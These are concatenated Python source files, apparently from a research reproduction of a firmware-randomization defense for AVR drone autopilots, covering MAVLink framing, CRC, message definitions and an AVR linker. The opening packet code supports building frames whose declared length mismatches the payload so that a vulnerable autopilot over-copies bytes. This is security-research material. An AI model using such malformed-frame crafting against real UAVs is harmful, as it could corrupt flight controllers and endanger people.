        disabled length check — makes the APM copy every byte anyway.
        """
        if crc_extra is None:
            crc_extra = message_by_id(self.msgid).crc_extra
        body = bytes([
            self.declared_length, self.seq, self.sysid, self.compid, self.msgid,
        ]) + self.payload
        checksum = frame_checksum(body, crc_extra)
        return bytes([MAGIC]) + body + bytes([checksum & 0xFF, checksum >> 8])

    @classmethod
    def from_bytes(cls, frame: bytes, check_crc: bool = True) -> "Packet":
        """Parse one complete frame."""
        if len(frame) < HEADER_LENGTH + CHECKSUM_LENGTH:
            raise MavlinkError(f"frame too short: {len(frame)} bytes")
        if frame[0] != MAGIC:
            raise MavlinkError(f"bad magic: 0x{frame[0]:02x}")
        length = frame[1]
        expected = HEADER_LENGTH + length + CHECKSUM_LENGTH
        if len(frame) != expected:
            raise MavlinkError(
                f"frame length {len(frame)} does not match declared {expected}"
            )
        payload = frame[HEADER_LENGTH : HEADER_LENGTH + length]
        packet = cls(
            seq=frame[2], sysid=frame[3], compid=frame[4], msgid=frame[5],
            payload=payload,
        )
        if check_crc:
            crc_extra = message_by_id(packet.msgid).crc_extra
            checksum = frame_checksum(frame[1:-2], crc_extra)
            wire = frame[-2] | (frame[-1] << 8)
            if checksum != wire:
                raise MavlinkError(
                    f"checksum mismatch: computed 0x{checksum:04x}, "
                    f"wire 0x{wire:04x}"
                )
        return packet

    def decode(self) -> dict:
        """Unpack the payload according to the registered message type."""
        definition = message_by_id(self.msgid)
        return definition.unpack(self.payload)


def build(definition: MessageDef, seq: int = 0, sysid: int = 255,
          compid: int = 0, **values) -> Packet:
    """Convenience: pack field values into a frame for ``definition``."""
    return Packet(
        seq=seq, sysid=sysid, compid=compid, msgid=definition.msg_id,
        payload=definition.pack(**values),
    )
