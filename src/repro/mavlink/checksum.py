"""MAVLink checksum: CRC-16/MCRF4XX (the X.25 CRC), as used on the wire.

The two checksum bytes close every MAVLink frame (paper Fig. 2).  MAVLink
additionally folds a per-message ``CRC_EXTRA`` byte into the CRC so that
sender and receiver must agree on the message layout.
"""

from __future__ import annotations

X25_INIT_CRC = 0xFFFF


def x25_accumulate(byte: int, crc: int) -> int:
    """Fold one byte into the running CRC."""
    tmp = (byte ^ (crc & 0xFF)) & 0xFF
    tmp = (tmp ^ (tmp << 4)) & 0xFF
    return ((crc >> 8) ^ (tmp << 8) ^ (tmp << 3) ^ (tmp >> 4)) & 0xFFFF


def x25_crc(data: bytes, crc: int = X25_INIT_CRC) -> int:
    """CRC over ``data`` starting from ``crc``."""
    for byte in data:
        crc = x25_accumulate(byte, crc)
    return crc


def frame_checksum(frame_body: bytes, crc_extra: int) -> int:
    """Checksum of a frame: header (sans magic) + payload + CRC_EXTRA."""
    return x25_accumulate(crc_extra & 0xFF, x25_crc(frame_body))
