"""MAVLink protocol: framing, messages, stream parsing, serial timing."""

from .channel import BITS_PER_BYTE_8N1, LinkTiming, SerialChannel
from .checksum import frame_checksum, x25_accumulate, x25_crc
from .messages import (
    ALL_MESSAGES,
    ATTITUDE,
    COMMAND_LONG,
    GLOBAL_POSITION_INT,
    HEARTBEAT,
    MISSION_ITEM,
    PARAM_SET,
    RAW_IMU,
    STATUSTEXT,
    SYS_STATUS,
    FieldDef,
    MessageDef,
    message_by_id,
)
from .packet import (
    CHECKSUM_LENGTH,
    HEADER_LENGTH,
    MAGIC,
    MAX_PAYLOAD,
    MIN_PACKET_LENGTH,
    MIN_PAYLOAD,
    Packet,
    build,
)
from .parser import ParserStats, StreamParser

__all__ = [
    "BITS_PER_BYTE_8N1",
    "LinkTiming",
    "SerialChannel",
    "frame_checksum",
    "x25_accumulate",
    "x25_crc",
    "ALL_MESSAGES",
    "ATTITUDE",
    "COMMAND_LONG",
    "GLOBAL_POSITION_INT",
    "HEARTBEAT",
    "MISSION_ITEM",
    "PARAM_SET",
    "RAW_IMU",
    "STATUSTEXT",
    "SYS_STATUS",
    "FieldDef",
    "MessageDef",
    "message_by_id",
    "CHECKSUM_LENGTH",
    "HEADER_LENGTH",
    "MAGIC",
    "MAX_PAYLOAD",
    "MIN_PACKET_LENGTH",
    "MIN_PAYLOAD",
    "Packet",
    "build",
    "ParserStats",
    "StreamParser",
]
