"""MAVLink message definitions used by the UAV/ground-station simulation.

A pragmatic subset of the common dialect: heartbeats and telemetry the
ground station monitors for the paper's *stealthiness* criterion, parameter
and command messages an attacker-controlled ground station can send.

Each definition carries the field struct layout and the ``CRC_EXTRA`` byte
(computed the same way pymavlink does: CRC of name + field types + names).
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Dict, List, Tuple

from ..errors import MavlinkError
from .checksum import x25_accumulate, x25_crc


@dataclass(frozen=True)
class FieldDef:
    """One message field: python struct code + name."""

    code: str  # struct format character, e.g. 'f', 'B', 'H'
    name: str

    @property
    def type_name(self) -> str:
        return _TYPE_NAMES[self.code]


_TYPE_NAMES = {
    "f": "float", "d": "double",
    "b": "int8_t", "B": "uint8_t",
    "h": "int16_t", "H": "uint16_t",
    "i": "int32_t", "I": "uint32_t",
    "q": "int64_t", "Q": "uint64_t",
}

_TYPE_SIZES = {"f": 4, "d": 8, "b": 1, "B": 1, "h": 2, "H": 2, "i": 4, "I": 4, "q": 8, "Q": 8}


@dataclass(frozen=True)
class MessageDef:
    """A message type: id, name, wire-ordered fields."""

    msg_id: int
    name: str
    fields: Tuple[FieldDef, ...]

    @property
    def wire_fields(self) -> List[FieldDef]:
        """Fields sorted by decreasing size (MAVLink wire ordering)."""
        return sorted(
            self.fields, key=lambda f: -_TYPE_SIZES[f.code]
        )

    @property
    def crc_extra(self) -> int:
        """Per-message seed byte folded into the frame checksum."""
        crc = x25_crc((self.name + " ").encode("ascii"))
        for field in self.wire_fields:
            crc = x25_crc((field.type_name + " ").encode("ascii"), crc)
            crc = x25_crc((field.name + " ").encode("ascii"), crc)
        return (crc & 0xFF) ^ (crc >> 8)

    @property
    def payload_length(self) -> int:
        return sum(_TYPE_SIZES[f.code] for f in self.fields)

    def pack(self, **values: float) -> bytes:
        """Pack named field values into wire-order payload bytes."""
        out = b""
        for field in self.wire_fields:
            if field.name not in values:
                raise MavlinkError(f"{self.name}: missing field {field.name}")
            out += struct.pack("<" + field.code, values[field.name])
        extra = set(values) - {f.name for f in self.fields}
        if extra:
            raise MavlinkError(f"{self.name}: unknown fields {sorted(extra)}")
        return out

    def unpack(self, payload: bytes) -> Dict[str, float]:
        """Unpack wire-order payload bytes into a field dict."""
        if len(payload) != self.payload_length:
            raise MavlinkError(
                f"{self.name}: payload is {len(payload)} bytes, "
                f"expected {self.payload_length}"
            )
        values: Dict[str, float] = {}
        offset = 0
        for field in self.wire_fields:
            size = _TYPE_SIZES[field.code]
            (values[field.name],) = struct.unpack_from("<" + field.code, payload, offset)
            offset += size
        return values


def _fields(*pairs: Tuple[str, str]) -> Tuple[FieldDef, ...]:
    return tuple(FieldDef(code, name) for code, name in pairs)


HEARTBEAT = MessageDef(0, "HEARTBEAT", _fields(
    ("I", "custom_mode"), ("B", "type"), ("B", "autopilot"),
    ("B", "base_mode"), ("B", "system_status"), ("B", "mavlink_version"),
))

SYS_STATUS = MessageDef(1, "SYS_STATUS", _fields(
    ("I", "onboard_control_sensors_present"),
    ("I", "onboard_control_sensors_enabled"),
    ("I", "onboard_control_sensors_health"),
    ("H", "load"), ("H", "voltage_battery"), ("h", "current_battery"),
    ("b", "battery_remaining"),
))

PARAM_SET = MessageDef(23, "PARAM_SET", _fields(
    ("f", "param_value"), ("B", "target_system"), ("B", "target_component"),
    ("H", "param_index"), ("B", "param_type"),
))

RAW_IMU = MessageDef(27, "RAW_IMU", _fields(
    ("Q", "time_usec"),
    ("h", "xacc"), ("h", "yacc"), ("h", "zacc"),
    ("h", "xgyro"), ("h", "ygyro"), ("h", "zgyro"),
    ("h", "xmag"), ("h", "ymag"), ("h", "zmag"),
))

ATTITUDE = MessageDef(30, "ATTITUDE", _fields(
    ("I", "time_boot_ms"),
    ("f", "roll"), ("f", "pitch"), ("f", "yaw"),
    ("f", "rollspeed"), ("f", "pitchspeed"), ("f", "yawspeed"),
))

GLOBAL_POSITION_INT = MessageDef(33, "GLOBAL_POSITION_INT", _fields(
    ("I", "time_boot_ms"),
    ("i", "lat"), ("i", "lon"), ("i", "alt"), ("i", "relative_alt"),
    ("h", "vx"), ("h", "vy"), ("h", "vz"), ("H", "hdg"),
))

MISSION_ITEM = MessageDef(39, "MISSION_ITEM", _fields(
    ("f", "param1"), ("f", "param2"), ("f", "param3"), ("f", "param4"),
    ("f", "x"), ("f", "y"), ("f", "z"),
    ("H", "seq"), ("H", "command"),
    ("B", "target_system"), ("B", "target_component"),
    ("B", "frame"), ("B", "current"), ("B", "autocontinue"),
))

COMMAND_LONG = MessageDef(76, "COMMAND_LONG", _fields(
    ("f", "param1"), ("f", "param2"), ("f", "param3"), ("f", "param4"),
    ("f", "param5"), ("f", "param6"), ("f", "param7"),
    ("H", "command"), ("B", "target_system"), ("B", "target_component"),
    ("B", "confirmation"),
))

STATUSTEXT_SEVERITY_INFO = 6
STATUSTEXT = MessageDef(253, "STATUSTEXT", _fields(
    ("B", "severity"),
    # simplified: 8-byte text field packed as uint64 to stay numeric
    ("Q", "text"),
))

ALL_MESSAGES: Dict[int, MessageDef] = {
    definition.msg_id: definition
    for definition in (
        HEARTBEAT, SYS_STATUS, PARAM_SET, RAW_IMU, ATTITUDE,
        GLOBAL_POSITION_INT, MISSION_ITEM, COMMAND_LONG, STATUSTEXT,
    )
}


def message_by_id(msg_id: int) -> MessageDef:
    try:
        return ALL_MESSAGES[msg_id]
    except KeyError:
        raise MavlinkError(f"unknown message id {msg_id}") from None
