"""Assembler, linker and disassembler for the AVR ISA subset."""

from .disassembler import disassemble, disassemble_image, format_instruction
from .ir import (
    AsmInsn,
    DataDef,
    DataKind,
    FunctionDef,
    Label,
    LabelRef,
    Program,
    RefKind,
    SymbolRef,
)
from .linker import (
    EPILOGUE_NAME,
    MAVR_OPTIONS,
    PROLOGUE_NAME,
    STOCK_OPTIONS,
    LinkOptions,
    link,
)
from .parser import parse_program

__all__ = [
    "disassemble",
    "disassemble_image",
    "format_instruction",
    "AsmInsn",
    "DataDef",
    "DataKind",
    "FunctionDef",
    "Label",
    "LabelRef",
    "Program",
    "RefKind",
    "SymbolRef",
    "EPILOGUE_NAME",
    "MAVR_OPTIONS",
    "PROLOGUE_NAME",
    "STOCK_OPTIONS",
    "LinkOptions",
    "link",
    "parse_program",
]
