"""Linker: IR program -> :class:`FirmwareImage`.

Implements the two toolchain behaviours the paper's defense had to fight
(§VI-B1):

* **Relaxation** (GNU ld ``--relax`` / disabled by ``--no-relax``): long
  ``call``/``jmp`` instructions are rewritten to ``rcall``/``rjmp`` when the
  target is within ±2K words.  Relaxed calls assume fixed function
  locations, so MAVR requires ``relax=False``.
* **Call prologues** (``-mcall-prologues``): functions saving many
  callee-saved registers share one ``__prologue_saves__`` /
  ``__epilogue_restores__`` block instead of inlining pushes/pops.  The
  shared block is itself a function symbol, so jumps into its middle
  exercise the binary-search offset patching path.

Layout::

    0x0000          interrupt vectors (57 x jmp, fixed)
    __init          startup stub: zero-reg, SP init, jmp main (fixed)
    .trampolines    one ``jmp`` stub per pointer-referenced function
                    (avr-gcc's mechanism for >128 KB parts: ``icall``
                    through a 16-bit Z can always reach a low stub, and
                    the stub's 22-bit ``jmp`` reaches anywhere)
    data_start ..   flash constants (incl. function-pointer tables) —
                    placed LOW so 16-bit ``lpm``/Z pointers reach them
    text_start ..   function blocks, each padded to ``align_functions``
    SRAM            zero-init variables allocated from SRAM_BASE

Function-pointer table slots store the *trampoline's* word address.  The
stubs are part of the fixed executable region, so the MAVR patcher's
instruction sweep retargets their ``jmp``s when functions move — the
pointer slots themselves never need rewriting.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from ..avr.insn import Instruction, Mnemonic
from ..avr.encoder import encode_bytes
from ..avr.iospace import SPH, SPL
from ..avr.memory import RAMEND, SRAM_BASE
from ..binfmt.image import FirmwareImage
from ..binfmt.symtab import DATA_SPACE_FLAG, Symbol, SymbolKind, SymbolTable
from ..errors import LinkError
from .ir import (
    AsmInsn,
    DataDef,
    DataKind,
    FunctionDef,
    Label,
    LabelRef,
    Program,
    RefKind,
    SymbolRef,
)

VECTOR_COUNT = 57  # ATmega2560
PROLOGUE_NAME = "__prologue_saves__"
EPILOGUE_NAME = "__epilogue_restores__"

# Canonical callee-saved set shared prologue/epilogue blocks handle.
CANONICAL_SAVES = tuple(range(2, 18)) + (28, 29)

# Functions saving at least this many registers use the shared blocks
# under -mcall-prologues.
PROLOGUE_THRESHOLD = 4


@dataclass(frozen=True)
class LinkOptions:
    """Toolchain knobs (paper §VI-B1)."""

    relax: bool = True
    call_prologues: bool = True
    align_functions: int = 4  # stock GCC pads function starts
    name: str = "firmware"

    @property
    def tag(self) -> str:
        flags = []
        flags.append("relax" if self.relax else "no-relax")
        flags.append(
            "mcall-prologues" if self.call_prologues else "mno-call-prologues"
        )
        return "+".join(flags)


STOCK_OPTIONS = LinkOptions(relax=True, call_prologues=True, align_functions=4)
MAVR_OPTIONS = LinkOptions(relax=False, call_prologues=False, align_functions=2)


# ---------------------------------------------------------------------------
# ABI lowering: save_regs -> concrete prologue/epilogue items
# ---------------------------------------------------------------------------

def _lower_function(func: FunctionDef, options: LinkOptions) -> List:
    """Produce the final item list: prologue + body + epilogue + ret."""
    items: List = []
    use_shared = (
        options.call_prologues
        and not func.force_inline_epilogue
        and len(func.save_regs) >= PROLOGUE_THRESHOLD
    )
    if use_shared:
        body_label = "__body"
        items.append(
            AsmInsn(Mnemonic.LDI, rd=30, k=LabelRef(body_label, RefKind.LO8_WORD))
        )
        items.append(
            AsmInsn(Mnemonic.LDI, rd=31, k=LabelRef(body_label, RefKind.HI8_WORD))
        )
        items.append(AsmInsn(Mnemonic.JMP, k=SymbolRef(PROLOGUE_NAME)))
        items.append(Label(body_label))
        items.extend(func.items)
        items.append(AsmInsn(Mnemonic.JMP, k=SymbolRef(EPILOGUE_NAME)))
        return items
    for reg in func.save_regs:
        items.append(AsmInsn(Mnemonic.PUSH, rr=reg))
    items.extend(func.items)
    for reg in reversed(list(func.save_regs)):
        items.append(AsmInsn(Mnemonic.POP, rd=reg))
    items.append(AsmInsn(Mnemonic.RET))
    return items


def _shared_blocks() -> List[FunctionDef]:
    """Build __prologue_saves__ / __epilogue_restores__ as function blocks."""
    prologue_items: List = [
        AsmInsn(Mnemonic.PUSH, rr=reg) for reg in CANONICAL_SAVES
    ]
    prologue_items.append(AsmInsn(Mnemonic.IJMP))
    epilogue_items: List = [
        AsmInsn(Mnemonic.POP, rd=reg) for reg in reversed(CANONICAL_SAVES)
    ]
    epilogue_items.append(AsmInsn(Mnemonic.RET))
    # raw=True semantics: these items are already complete (no ret added)
    prologue = FunctionDef(PROLOGUE_NAME, prologue_items)
    epilogue = FunctionDef(EPILOGUE_NAME, epilogue_items)
    return [prologue, epilogue]


# ---------------------------------------------------------------------------
# The linker proper
# ---------------------------------------------------------------------------

@dataclass
class _Placed:
    """A function during layout: lowered items + evolving size/address."""

    func: FunctionDef
    items: List
    address: int = 0  # byte address
    size: int = 0  # bytes, including alignment padding
    # per-item long/short form for relaxable call/jmp: item index -> short?
    short_form: Dict[int, bool] = field(default_factory=dict)


def link(program: Program, options: LinkOptions = STOCK_OPTIONS) -> FirmwareImage:
    """Link ``program`` into a flash image under the given toolchain flags."""
    if not program.functions:
        raise LinkError("program has no functions")
    if options.align_functions not in (2, 4):
        raise LinkError(f"unsupported function alignment: {options.align_functions}")

    functions = list(program.functions)
    uses_shared = options.call_prologues and any(
        len(f.save_regs) >= PROLOGUE_THRESHOLD and not f.force_inline_epilogue
        for f in functions
    )
    if uses_shared:
        functions = _shared_blocks() + functions

    placed = [_Placed(f, _lower_function(f, options)) for f in functions]
    if uses_shared:
        # shared blocks are emitted verbatim (no extra ret/epilogue)
        placed[0].items = placed[0].func.items
        placed[1].items = placed[1].func.items

    # functions reachable through pointer tables get low trampoline stubs
    trampoline_names = _trampoline_targets(program)
    fixed_code, fixed_size, trampoline_words = _fixed_region_size(
        program.entry, trampoline_names
    )

    # flash data sits right after the fixed region so 16-bit pointers
    # (ldi lo8/hi8 + lpm) can always reach it
    data_start = fixed_size
    data_layout, data_bytes_size = _layout_flash_data(program, data_start)
    data_end = data_start + data_bytes_size
    text_start = data_end + (data_end % 2)  # word-align the code

    # SRAM (bss) allocation
    sram_layout: Dict[str, Tuple[int, int]] = {}
    sram_cursor = SRAM_BASE
    for data in program.data:
        if data.segment == "sram":
            size = data.size_bytes()
            sram_layout[data.name] = (sram_cursor, size)
            sram_cursor += size
    if sram_cursor >= RAMEND - 512:
        raise LinkError("SRAM exhausted by data objects")

    # iterative layout with relaxation (sizes only ever shrink)
    for p in placed:
        for index, item in enumerate(p.items):
            if _is_relaxable(item):
                p.short_form[index] = False
    _compute_layout(placed, text_start, options)
    symbol_words = _symbol_words(placed, program, sram_layout, data_layout)
    if options.relax:
        changed = True
        iterations = 0
        while changed:
            iterations += 1
            if iterations > 64:
                raise LinkError("relaxation did not converge")
            changed = _relax_pass(placed, symbol_words)
            _compute_layout(placed, text_start, options)
            symbol_words = _symbol_words(placed, program, sram_layout, data_layout)

    text_end = placed[-1].address + placed[-1].size if placed else text_start
    symbol_words = _symbol_words(placed, program, sram_layout, data_layout)

    # encode
    image = bytearray(b"\xff" * text_end)
    image[:fixed_size] = _encode_fixed_region(
        fixed_code, symbol_words, trampoline_names
    )
    for p in placed:
        blob = _encode_function(p, symbol_words)
        if len(blob) > p.size:
            raise LinkError(
                f"encoded size of {p.func.name} ({len(blob)}) exceeds layout ({p.size})"
            )
        blob = blob + b"\x00" * (p.size - len(blob))  # nop alignment padding
        image[p.address : p.address + p.size] = blob

    funcptr_locations: List[int] = []
    for data in program.data:
        if data.segment != "flash":
            continue
        base = data_layout[data.name]
        if data.kind is DataKind.BYTES:
            image[base : base + len(data.payload)] = data.payload  # type: ignore[arg-type]
        elif data.kind is DataKind.FUNCPTR_TABLE:
            for slot, func_name in enumerate(data.payload):  # type: ignore[union-attr]
                if func_name not in symbol_words:
                    raise LinkError(
                        f"funcptr table {data.name} references unknown {func_name}"
                    )
                # slots hold the low trampoline's word address, which
                # always fits 16 bits regardless of where the function is
                word = trampoline_words[func_name]
                location = base + slot * 2
                image[location] = word & 0xFF
                image[location + 1] = (word >> 8) & 0xFF
                funcptr_locations.append(location)
        elif data.kind is DataKind.SPACE:
            pass  # flash space stays erased (0xFF)

    symtab = SymbolTable()
    for p in placed:
        symtab.add(Symbol(p.func.name, p.address, p.size, SymbolKind.FUNC))
    for data in program.data:
        if data.segment == "flash":
            symtab.add(
                Symbol(
                    data.name,
                    data_layout[data.name],
                    data.size_bytes(),
                    SymbolKind.OBJECT,
                )
            )
        else:
            address, size = sram_layout[data.name]
            symtab.add(
                Symbol(data.name, DATA_SPACE_FLAG + address, size, SymbolKind.OBJECT)
            )

    firmware = FirmwareImage(
        code=bytes(image),
        symbols=symtab,
        text_start=text_start,
        text_end=text_end,
        data_start=data_start,
        data_end=data_end,
        entry_symbol=program.entry,
        funcptr_locations=funcptr_locations,
        name=options.name,
        toolchain_tag=options.tag,
    )
    firmware.validate()
    return firmware


# ---------------------------------------------------------------------------
# fixed region (vectors + __init)
# ---------------------------------------------------------------------------

def _fixed_region_items(entry: str = "main") -> List[AsmInsn]:
    """__init: zero register, stack pointer setup, jump to main."""
    return [
        AsmInsn(Mnemonic.EOR, rd=1, rr=1),  # GCC zero register convention
        AsmInsn(Mnemonic.OUT, a=0x3F, rr=1),  # clear SREG
        AsmInsn(Mnemonic.LDI, rd=28, k=RAMEND & 0xFF),
        AsmInsn(Mnemonic.LDI, rd=29, k=(RAMEND >> 8) & 0xFF),
        AsmInsn(Mnemonic.OUT, a=SPL, rr=28),
        AsmInsn(Mnemonic.OUT, a=SPH, rr=29),
        AsmInsn(Mnemonic.JMP, k=SymbolRef(entry)),
    ]


def _trampoline_targets(program: Program) -> List[str]:
    """Pointer-referenced function names, in first-appearance order."""
    seen: List[str] = []
    for data in program.data:
        if data.kind is DataKind.FUNCPTR_TABLE:
            for name in data.payload:  # type: ignore[union-attr]
                if name not in seen:
                    seen.append(name)
    return seen


def _fixed_region_size(
    entry: str = "main", trampoline_names: List[str] = ()
) -> Tuple[List[AsmInsn], int, Dict[str, int]]:
    """Layout of the fixed region; returns (init items, size, stub words)."""
    items = _fixed_region_items(entry)
    vectors_words = VECTOR_COUNT * 2
    init_words = sum(
        2 if item.mnemonic in (Mnemonic.JMP, Mnemonic.CALL) else 1 for item in items
    )
    trampoline_words: Dict[str, int] = {}
    cursor = vectors_words + init_words
    for name in trampoline_names:
        trampoline_words[name] = cursor
        cursor += 2  # one jmp stub
    return items, cursor * 2, trampoline_words


def _encode_fixed_region(
    init_items: List[AsmInsn],
    symbol_words: Dict[str, int],
    trampoline_names: List[str] = (),
) -> bytes:
    out = bytearray()
    init_word = VECTOR_COUNT * 2
    # vector 0 -> __init; all others -> __init as well (bad-interrupt reset)
    for _vector in range(VECTOR_COUNT):
        out += encode_bytes(Instruction(Mnemonic.JMP, k=init_word))
    for item in init_items:
        if isinstance(item.k, SymbolRef):
            target = symbol_words.get(item.k.name)
            if target is None:
                raise LinkError(f"__init references unknown symbol {item.k.name}")
            out += encode_bytes(item.concrete(target))
        else:
            out += encode_bytes(item.as_instruction())
    for name in trampoline_names:
        target = symbol_words.get(name)
        if target is None:
            raise LinkError(f"trampoline references unknown function {name}")
        out += encode_bytes(Instruction(Mnemonic.JMP, k=target))
    return bytes(out)


# ---------------------------------------------------------------------------
# layout helpers
# ---------------------------------------------------------------------------

def _is_relaxable(item) -> bool:
    return (
        isinstance(item, AsmInsn)
        and item.mnemonic in (Mnemonic.CALL, Mnemonic.JMP)
        and isinstance(item.k, (SymbolRef, LabelRef))
    )


def _item_size_words(item, short: bool) -> int:
    if isinstance(item, Label):
        return 0
    if item.mnemonic in (Mnemonic.CALL, Mnemonic.JMP):
        return 1 if short else 2
    return 1 if item.mnemonic not in (Mnemonic.LDS, Mnemonic.STS) else 2


def _compute_layout(placed: List[_Placed], text_start: int, options: LinkOptions) -> None:
    cursor = text_start
    for p in placed:
        words = 0
        for index, item in enumerate(p.items):
            words += _item_size_words(item, p.short_form.get(index, False))
        size = words * 2
        align = options.align_functions
        if size % align:
            size += align - (size % align)
        p.address = cursor
        p.size = size
        cursor += size


def _symbol_words(
    placed: List[_Placed],
    program: Program,
    sram_layout: Dict[str, Tuple[int, int]],
    data_layout: Optional[Dict[str, int]],
) -> Dict[str, int]:
    """Map every symbol to the value references need.

    Functions map to their flash *word* address.  SRAM objects map to their
    data-space byte address; flash data objects to their flash byte address.
    """
    table: Dict[str, int] = {}
    for p in placed:
        table[p.func.name] = p.address // 2
    for name, (address, _size) in sram_layout.items():
        table[name] = address
    if data_layout:
        for name, address in data_layout.items():
            table.setdefault(name, address)
    return table


def _layout_flash_data(program: Program, data_start: int) -> Tuple[Dict[str, int], int]:
    layout: Dict[str, int] = {}
    cursor = data_start
    for data in program.data:
        if data.segment != "flash":
            continue
        layout[data.name] = cursor
        cursor += data.size_bytes()
    return layout, cursor - data_start


def _relax_pass(placed: List[_Placed], symbol_words: Dict[str, int]) -> bool:
    """Shrink long call/jmp to rcall/rjmp where the target fits. One pass."""
    changed = False
    for p in placed:
        word_cursor = p.address // 2
        for index, item in enumerate(p.items):
            size = _item_size_words(item, p.short_form.get(index, False))
            if _is_relaxable(item) and not p.short_form.get(index, False):
                target = _resolve_word_target(item.k, p, symbol_words)
                if target is not None:
                    displacement = target - (word_cursor + 1)  # short form is 1 word
                    if -2048 <= displacement <= 2047:
                        p.short_form[index] = True
                        changed = True
            word_cursor += size
    return changed


def _local_label_words(p: _Placed) -> Dict[str, int]:
    table: Dict[str, int] = {}
    cursor = p.address // 2
    for index, item in enumerate(p.items):
        if isinstance(item, Label):
            table[item.name] = cursor
        else:
            cursor += _item_size_words(item, p.short_form.get(index, False))
    return table


def _resolve_word_target(ref, p: _Placed, symbol_words: Dict[str, int]) -> Optional[int]:
    if isinstance(ref, LabelRef):
        return _local_label_words(p).get(ref.name)
    if isinstance(ref, SymbolRef):
        base = symbol_words.get(ref.name)
        if base is None:
            return None
        return base + ref.addend
    return None


# ---------------------------------------------------------------------------
# encoding
# ---------------------------------------------------------------------------

def _encode_function(p: _Placed, symbol_words: Dict[str, int]) -> bytes:
    labels = _local_label_words(p)
    out = bytearray()
    word_cursor = p.address // 2
    for index, item in enumerate(p.items):
        if isinstance(item, Label):
            continue
        size = _item_size_words(item, p.short_form.get(index, False))
        insn = _materialize(item, p, index, word_cursor, size, labels, symbol_words)
        out += encode_bytes(insn)
        word_cursor += size
    return bytes(out)


def _materialize(
    item: AsmInsn,
    p: _Placed,
    index: int,
    word_cursor: int,
    size: int,
    labels: Dict[str, int],
    symbol_words: Dict[str, int],
) -> Instruction:
    mnem = item.mnemonic
    k = item.k
    if not isinstance(k, (SymbolRef, LabelRef)):
        return item.as_instruction()

    # resolve the raw value the reference points at
    if isinstance(k, LabelRef):
        if k.name not in labels:
            raise LinkError(f"{p.func.name}: undefined local label .{k.name}")
        value = labels[k.name]
        kind = k.kind
        addend = 0
    else:
        if k.name not in symbol_words:
            raise LinkError(f"{p.func.name}: undefined symbol {k.name}")
        value = symbol_words[k.name]
        kind = k.kind
        addend = k.addend

    if mnem in (Mnemonic.CALL, Mnemonic.JMP):
        target = value + addend
        if p.short_form.get(index, False):
            displacement = target - (word_cursor + 1)
            short = Mnemonic.RCALL if mnem is Mnemonic.CALL else Mnemonic.RJMP
            return Instruction(short, k=displacement)
        return Instruction(mnem, k=target)

    if mnem in (Mnemonic.RCALL, Mnemonic.RJMP):
        target = value + addend
        displacement = target - (word_cursor + 1)
        if not -2048 <= displacement <= 2047:
            raise LinkError(
                f"{p.func.name}: relative target {k} out of range "
                f"({displacement} words)"
            )
        return item.concrete(displacement)

    if mnem in (Mnemonic.BRBS, Mnemonic.BRBC):
        target = value + addend
        displacement = target - (word_cursor + 1)
        if not -64 <= displacement <= 63:
            raise LinkError(f"{p.func.name}: branch target {k} out of range")
        return item.concrete(displacement)

    if kind is RefKind.LO8:
        return item.concrete((value + addend) & 0xFF)
    if kind is RefKind.HI8:
        return item.concrete(((value + addend) >> 8) & 0xFF)
    if kind is RefKind.LO8_WORD:
        return item.concrete((value + addend) & 0xFF)
    if kind is RefKind.HI8_WORD:
        return item.concrete(((value + addend) >> 8) & 0xFF)
    if kind is RefKind.WORD and mnem in (Mnemonic.LDS, Mnemonic.STS):
        return item.concrete(value + addend)
    if kind is RefKind.WORD and mnem is Mnemonic.LDI:
        raise LinkError(
            f"{p.func.name}: ldi needs lo8()/hi8() around symbol {k}"
        )
    return item.concrete(value + addend)
