"""Assembler intermediate representation.

Both front-ends — the text parser and the synthetic-firmware code
generator — produce this IR, and the linker consumes it:

* :class:`AsmInsn` — an AVR instruction whose immediate may still be
  symbolic (:class:`SymbolRef` to a global symbol or :class:`LabelRef` to a
  function-local label).
* :class:`FunctionDef` — a named sequence of instructions and local labels;
  the unit MAVR shuffles.
* :class:`DataDef` — a named data object (buffers, strings, call tables).

Reference kinds mirror AVR relocations: ``word`` (code word address, what
``call``/``jmp`` encode), ``lo8``/``hi8`` (halves of a data byte address or
of a code word address for ``ldi`` pairs).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import List, Optional, Sequence, Union

from ..avr.insn import Instruction, Mnemonic
from ..errors import AsmError


class RefKind(Enum):
    """How a symbolic operand maps onto an encoded field."""

    WORD = "word"  # code word address (call/jmp targets)
    LO8 = "lo8"  # low byte of a data byte-address
    HI8 = "hi8"  # high byte of a data byte-address
    LO8_WORD = "lo8w"  # low byte of a code word-address (ldi Z pairs)
    HI8_WORD = "hi8w"  # high byte of a code word-address


@dataclass(frozen=True)
class SymbolRef:
    """Reference to a global symbol (function or data object)."""

    name: str
    kind: RefKind = RefKind.WORD
    addend: int = 0  # bytes for data refs, words for code refs

    def __str__(self) -> str:
        suffix = f"+{self.addend}" if self.addend else ""
        if self.kind is RefKind.WORD:
            return f"{self.name}{suffix}"
        return f"{self.kind.value}({self.name}{suffix})"


@dataclass(frozen=True)
class LabelRef:
    """Reference to a label local to the enclosing function."""

    name: str
    kind: RefKind = RefKind.WORD

    def __str__(self) -> str:
        return f".{self.name}"


Operand = Union[int, SymbolRef, LabelRef]


@dataclass(frozen=True)
class AsmInsn:
    """An instruction whose ``k`` operand may be symbolic."""

    mnemonic: Mnemonic
    rd: Optional[int] = None
    rr: Optional[int] = None
    k: Optional[Operand] = None
    q: Optional[int] = None
    a: Optional[int] = None
    b: Optional[int] = None

    def concrete(self, k: int) -> Instruction:
        """Materialize with a resolved immediate."""
        return Instruction(
            self.mnemonic, rd=self.rd, rr=self.rr, k=k, q=self.q, a=self.a, b=self.b
        )

    def as_instruction(self) -> Instruction:
        """Materialize when no symbolic operand is present."""
        if isinstance(self.k, (SymbolRef, LabelRef)):
            raise AsmError(f"unresolved symbolic operand in {self.mnemonic.value}")
        return Instruction(
            self.mnemonic, rd=self.rd, rr=self.rr, k=self.k, q=self.q, a=self.a, b=self.b
        )

    @property
    def is_symbolic(self) -> bool:
        return isinstance(self.k, (SymbolRef, LabelRef))


@dataclass(frozen=True)
class Label:
    """A function-local label definition."""

    name: str


Item = Union[AsmInsn, Label]


@dataclass
class FunctionDef:
    """One function: the block unit of MAVR randomization."""

    name: str
    items: List[Item] = field(default_factory=list)
    # Registers this function saves; the toolchain turns this into inline
    # push/pop or shared prologue/epilogue calls (-mcall-prologues).
    save_regs: Sequence[int] = ()
